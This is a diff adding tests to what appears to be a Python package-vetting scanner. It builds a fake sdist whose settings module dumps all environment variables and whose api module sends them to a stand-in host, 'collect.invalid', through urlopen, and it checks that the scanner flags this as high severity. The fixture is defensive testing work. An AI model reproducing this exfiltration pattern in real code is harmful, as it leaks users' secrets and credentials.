@@ -210,3 +210,24 @@ def test_the_bad_one_is_stopped(name: str) -> None:
 def test_its_twin_passes(name: str) -> None:
     severity, told = worst(PAIRS[name][1])
     assert severity < Severity.HIGH, told
+
+
+def across(address: str) -> Severity:
+    """The environment dumped in one module, put into an address by a function of another."""
+    files = {
+        "tools-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: tools\nVersion: 1.0\n",
+        "tools-1.0/setup.py": b"from setuptools import setup\nsetup(name='tools', version='1.0', packages=['tools'])\n",
+        "tools-1.0/tools/__init__.py": b"",
+        "tools-1.0/tools/settings.py": b"import json, os\nDUMP = json.dumps(dict(os.environ))\n",
+        "tools-1.0/tools/api.py": (
+            "from urllib.request import urlopen\nfrom .settings import DUMP\n"
+            f"def ping():\n    urlopen({address!r} + DUMP)\n"
+        ).encode(),
+    }
+    result = vet(honest_tar(files), "tools-1.0.tar.gz")
+    return max((each.severity for each in result.findings), default=Severity.INFO)
+
+
+def test_the_environment_in_a_stranger_s_address_is_theft_from_another_module_too() -> None:
+    assert across("https://collect.invalid/?d=") >= Severity.HIGH
+    assert across("https://…/?d=") < Severity.HIGH, "a host of which nothing is known is no stranger's"
